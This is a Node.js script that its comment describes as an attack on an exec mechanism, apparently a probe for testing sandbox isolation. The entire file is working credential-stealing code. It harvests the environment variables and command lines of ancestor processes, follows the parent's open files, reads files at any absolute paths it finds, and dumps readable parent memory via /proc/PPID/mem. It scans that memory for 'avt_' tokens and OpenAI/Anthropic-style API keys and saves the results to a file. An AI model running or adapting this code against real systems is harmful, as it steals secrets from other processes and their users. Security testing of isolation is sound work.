// The attack on exec itself: the command exec runs is the same OS user, so it reads what the
// kernel shows of its parent and every ancestor (environ, cmdline), lists the parent's open
// file descriptors, reads the parent's memory through /proc/PPID/mem (allowed for the same user
// when Yama's ptrace_scope is 0 or absent), and tries every credential-looking thing it found:
// files named by a path, and token-shaped strings. It writes its loot to HARVEST_OUT.
import { readFileSync, readdirSync, readlinkSync, writeFileSync, openSync, readSync, closeSync } from 'node:fs';

const read = (path, encoding = 'latin1') => { try { return readFileSync(path, encoding); } catch (error) { return `!${error.code}`; } };
const parentOf = (pid) => Number(read(`/proc/${pid}/stat`).replace(/^.*\) /s, '').split(' ')[1]);
const loot = { ancestors: [], fds: [], files: {}, mem: { readable: false, bytes: 0, tokens: [], keys: [] }, yama: read('/proc/sys/kernel/yama/ptrace_scope').trim() };

for (let pid = process.ppid; pid > 1; pid = parentOf(pid)) {
  loot.ancestors.push({ pid, environ: read(`/proc/${pid}/environ`), cmdline: read(`/proc/${pid}/cmdline`) });
}
try {
  for (const fd of readdirSync(`/proc/${process.ppid}/fd`)) {
    try { loot.fds.push(readlinkSync(`/proc/${process.ppid}/fd/${fd}`)); } catch { /* closed meanwhile */ }
  }
} catch (error) { loot.fds.push(`!${error.code}`); }

// Every absolute path mentioned by the parent (environment values, arguments, open files): read it.
const parent = loot.ancestors[0];
const mentioned = [...`${parent.environ}\0${parent.cmdline}`.split('\0').flatMap((entry) => entry.split('=')), ...loot.fds];
for (const path of mentioned.filter((value) => value.startsWith('/') && !value.startsWith('/proc') && !value.startsWith('/dev'))) {
  const text = read(path);
  if (!text.startsWith('!') && text.length < 1 << 16) loot.files[path] = text;
}

// The parent's memory, region by region, searched for what a stealer looks for.
try {
  const fd = openSync(`/proc/${process.ppid}/mem`, 'r');
  const tokens = new Set();
  const keys = new Set();
  for (const line of read(`/proc/${process.ppid}/maps`).split('\n')) {
    const [range, perms] = line.split(' ');
    if (!range || !perms?.startsWith('r')) continue;
    const [start, end] = range.split('-').map((hex) => BigInt(`0x${hex}`));
    if (end - start > 1n << 28n) continue;
    const buffer = Buffer.alloc(Number(end - start));
    let got = 0;
    try { got = readSync(fd, buffer, 0, buffer.length, start); } catch { continue; }
    loot.mem.readable = true;
    loot.mem.bytes += got;
    const text = buffer.subarray(0, got).toString('latin1');
    for (const match of text.matchAll(/avt_[A-Za-z0-9_-]{40,}/g)) tokens.add(match[0]);
    for (const match of text.matchAll(/sk-(?:proj|ant)-[A-Za-z0-9_-]{20,}/g)) keys.add(match[0]);
  }
  closeSync(fd);
  loot.mem.tokens = [...tokens].slice(0, 50);
  loot.mem.keys = [...keys].slice(0, 50);
} catch (error) { loot.mem.error = error.code; }

writeFileSync(process.env.HARVEST_OUT, JSON.stringify(loot));
